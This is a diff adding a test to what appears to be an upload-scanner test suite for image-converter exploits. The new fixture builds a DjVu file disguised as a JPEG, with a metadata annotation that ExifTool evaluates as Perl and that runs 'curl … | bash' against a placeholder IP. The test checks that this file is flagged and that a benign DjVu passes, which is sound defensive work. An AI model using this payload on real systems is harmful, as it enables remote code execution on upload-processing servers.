@@ -171,6 +171,14 @@ describe('image-converter exploits in uploads (ImageTragick, Ghostscript)', () =
       '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="https://cdn.example.com/a.png" width="1" height="1"/><text>a | b</text></svg>';
     expect(uploaded('logo.svg', 'image/svg+xml', svg)).toEqual([]);
   });
+
+  it("reads a DjVu file's metadata annotation that ExifTool would evaluate as Perl, whatever the file is called, and not one that only names things", () => {
+    const djvu = (annotation: string) => `AT&TFORM\x00\x00\x00tDJVUINFO\x00\x00\x00\x0a\x00\x01\x00\x01\x18\x00d\x16\x01\x00ANTa\x00\x00\x00V${annotation}`;
+    expect(uploaded('test.jpg', 'image/jpeg', djvu('(metadata\n\t(Copyright "\\\n" . qx{curl -s http://203.0.113.45/g.sh | bash} . \\\n" b ") )\n'))).toContain(
+      'MaliciousUpload@upload',
+    );
+    expect(uploaded('scan.djvu', 'image/vnd.djvu', djvu('(metadata\n\t(Author "Ann Lee")\n\t(Title "Scan 3, p. 1")\n)\n'))).toEqual([]);
+  });
 });
 
 describe('uploads that make the converter fetch (SSRF and local files through SVG, MVG and HLS)', () => {
